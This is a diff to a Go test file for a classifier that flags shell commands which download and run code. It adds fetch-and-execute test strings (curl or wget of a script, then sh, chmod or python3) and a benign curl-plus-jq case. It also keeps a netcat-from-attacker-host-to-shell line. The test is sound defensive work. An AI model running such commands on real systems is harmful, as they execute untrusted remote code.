@@ -35,6 +35,9 @@ func TestDownloadRun(t *testing.T) {
 		{"wget -O x.sh https://x.example.com/i.sh && sh x.sh", "download_run/sh"},
 		{"curl https://x.example.com/i.sh > x.sh; sh x.sh", "download_run/sh"},
 		{`X=$(curl -s https://x.example.com/i.sh); eval "$X"`, "download_run/eval"},
+		{"curl -sO https://x.example.com/i.sh; chmod +x i.sh; ./i.sh", "download_run/i.sh"},
+		{"wget https://x.example.com/i.sh && sh i.sh", "download_run/sh"},
+		{"wget -q https://x.example.com/i.py?v=1 && python3 ./i.py", "download_run/python3"},
 		{"curl http://localhost:3000/i.sh | sh", "download_run/sh local"},
 		{"nc evil.example.net 4444 | sh", "download_run/sh"},
 	})
@@ -237,7 +240,7 @@ func TestFetchedData(t *testing.T) {
 		"curl -L https://x.example.com/a.tgz | tar xz", `eval "$(ssh-agent -s)"`, `eval "$(direnv hook bash)"`, "curl -s https://x.example.com | bash script.sh",
 		`curl -H "Authorization: Bearer $(gh auth token)" https://api.example.com`, `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.com`,
 		"cat ids.txt | while read id; do curl https://api.example.com/$id; done", "cat urls.txt | xargs -n1 curl -sO",
-		"curl -LO https://dl.example.com/$(cat VERSION)/x", "openssl s_client -connect example.com:443 </dev/null", "echo | openssl s_client -connect example.com:443",
+		"curl -sO https://x.example.com/data.json && jq . data.json && ./run.sh", "curl -LO https://dl.example.com/$(cat VERSION)/x", "openssl s_client -connect example.com:443 </dev/null", "echo | openssl s_client -connect example.com:443",
 	} {
 		for _, e := range effecttest.Of(text, network.Effects) {
 			if e.Kind == "download_run" || e.Kind == "send" {
